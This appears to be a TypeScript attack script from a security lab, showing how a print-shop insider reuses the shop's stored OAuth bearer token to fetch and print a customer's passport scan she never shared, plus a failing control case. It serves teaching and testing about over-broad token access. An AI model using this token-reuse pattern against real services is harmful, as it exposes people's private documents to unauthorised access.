import { rows } from '../engine/databases.ts'
import type { Answer, Place } from '../engine/lab.ts'
import { orderPhoto } from '../engine/order-photo.ts'

/**
 * Alice ticks four photos. Mallory, who works at the shop, uses the shop's token for one that Alice did not tick, and has it
 * printed.
 */
export async function attack(place: Place): Promise<Answer> {
  const alice = place.person('alice')
  await alice.walk(`${place.shop}/connect`, { photos: 4 })
  const picture = await askForPhoto(place, findPassportScan(place))
  if (picture.status === 200) await orderPhoto(place, alice, findPassportScan(place))
  return picture
}

/** An id that nobody has: it is no photo, whatever the token opens. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  await place.person('alice').walk(`${place.shop}/connect`, { photos: 4 })
  return askForPhoto(place, 'passport-scan')
}

/** What the shop's server would do with the token that lies in its database. */
async function askForPhoto(place: Place, id: string): Promise<Answer> {
  const [connection] = rows(
    place.data,
    'printing-service',
    'SELECT access_token FROM connections ORDER BY connected_at DESC',
  )
  const headers = { Authorization: `Bearer ${connection?.access_token}` }
  const answer = await fetch(`${place.photos}/v1/photos/${id}/content`, { headers })
  return { status: answer.status, text: answer.ok ? 'a picture' : await answer.text() }
}

// An id is no secret: with the guard out, the list of photos says all of them.
function findPassportScan({ data }: Place): string {
  const [photo] = rows(data, 'cloud-drive-photos', "SELECT id FROM photos WHERE title = 'Passport scan'")
  return String(photo?.id)
}
